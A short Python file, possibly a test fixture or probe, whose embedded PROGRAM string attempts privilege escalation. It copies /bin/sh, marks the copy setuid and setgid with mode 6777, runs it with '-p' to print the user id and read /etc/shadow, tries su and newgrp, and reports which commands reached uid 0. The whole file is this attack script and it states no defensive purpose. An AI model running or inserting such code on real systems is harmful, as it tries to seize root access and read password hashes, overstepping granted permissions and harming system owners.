"""Looks for programs that run as root, and makes one."""

PROGRAM = r"""
import os
import shutil
import subprocess

def run(asked):
    reached = []
    shutil.copy("/bin/sh", "shell")
    os.chmod("shell", 0o6777)
    tries = [["./shell", "-p", "-c", "id -u; cat /etc/shadow"], ["/usr/bin/su", "-c", "id -u"], ["/usr/bin/newgrp"]]
    for command in tries:
        try:
            out = subprocess.run(command, capture_output=True, text=True, stdin=subprocess.DEVNULL)
        except OSError:
            continue
        if "0" in out.stdout.split():
            reached.append(command[0])
    return reached
"""
